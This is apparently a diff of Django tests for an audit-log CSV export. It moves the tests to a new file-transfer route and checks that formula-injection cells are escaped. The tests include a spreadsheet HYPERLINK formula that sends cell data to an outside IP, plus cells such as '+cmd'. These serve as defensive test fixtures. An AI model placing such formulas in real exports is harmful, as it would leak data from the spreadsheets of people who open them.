@@ -11,7 +11,6 @@ from django.db import connection, transaction
 from applications import audit as audit_trail
 from applications import audit_seals, environments
 from applications.models import AuditEvent
-from console.audit import views as audit
 from moderation import bans
 from tests.console.pages import address
 from tests.factories import (
@@ -203,9 +202,9 @@ class TestReceipt:
     ):
         delete(environment, *(f"user-{number}" for number in range(20)))
         # Session, account, environment, membership, line; its act, seal, the last seal; reports of
-        # kicks, connections that wait.
+        # kicks, connections that wait; what was deleted.
         line = AuditEvent.objects.latest("pk")
-        with django_assert_num_queries(10):
+        with django_assert_num_queries(11):
             receipt(line)
 
     def test_offers_the_undo_while_there_is_one(self, at_noon, environment, receipt):
@@ -282,16 +281,24 @@ class TestSeals:
         assert "No seals yet" in seals(**query).text
 
 
+def exported(client, environment, **filters):
+    file = address("transfers:file", environment, "audit")
+    response = client.get(file, {"format": "csv", **filters})
+    assert "attachment" in response["Content-Disposition"]
+    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))
+
+
 class TestAuditExport:
     def test_writes_what_the_filters_find(self, client, environment):
         ban(environment, "mallory")
         ban(environment, "mia")
-        response = client.get(address("audit:export", environment), {"subject": "mia"})
-        [row] = csv.DictReader(io.StringIO(response.text))
+        response = client.get(
+            address("transfers:file", environment, "audit"), {"subject": "mia", "format": "csv"}
+        )
+        [row] = csv.DictReader(io.StringIO(response.getvalue().decode()))
         assert row["subject"] == "mia"
         assert row["at"] == NOON.isoformat()
         assert '"reason": "spam"' in row["after"]
-        assert "attachment" in response["Content-Disposition"]
 
     def test_has_no_cell_that_a_spreadsheet_would_run(self, client, environment):
         formula = '=HYPERLINK("http://192.0.2.66/?"&A1,"x")'
@@ -301,8 +308,10 @@ class TestAuditExport:
                 audit_trail.record(
                     "ban.lifted", environment=environment, subject=user_id, by=by, now=NOON
                 )
-        response = client.get(address("audit:export", environment))
-        rows = {row["subject"]: row for row in csv.DictReader(io.StringIO(response.text))}
+        response = client.get(address("transfers:file", environment, "audit"), {"format": "csv"})
+        rows = {
+            row["subject"]: row for row in csv.DictReader(io.StringIO(response.getvalue().decode()))
+        }
         assert rows.keys() == {"'=1+2", "'+cmd", "'-2", "mia"}
         mia = rows["mia"]
         assert (mia["via"], mia["request_id"]) == (f"'{formula}", "'\t=1")
@@ -310,16 +319,15 @@ class TestAuditExport:
 
     def test_is_the_only_way_to_write_csv(self):
         """So that no other export forgets to escape formulas."""
-        packages = ("applications", "users", "moderation", "api", "gateway", "console", "rollcall")
+        packages = (
+            "applications",
+            "users",
+            "moderation",
+            "transfers",
+            "console",
+            "api",
+            "rollcall",
+        )
         sources = [path for each in packages for path in (settings.BASE_DIR / each).rglob("*.py")]
         writers = [path.name for path in sources if "csv" in path.read_text().split()]
-        assert writers == ["exports.py"]
-
-    def test_stops_at_its_limit(self, client, environment, monkeypatch):
-        monkeypatch.setattr(audit, "EXPORT_AT_MOST", 2)
-        for number in range(3):
-            ban(environment, f"user-{number}", now=NOON + number * HOUR)
-        response = client.get(address("audit:export", environment))
-        rows = list(csv.DictReader(io.StringIO(response.text)))
-        assert [row["subject"] for row in rows] == ["user-2", "user-1"]
-        assert AuditEvent.objects.filter(environment=environment).count() == 3
+        assert writers == ["files.py"]
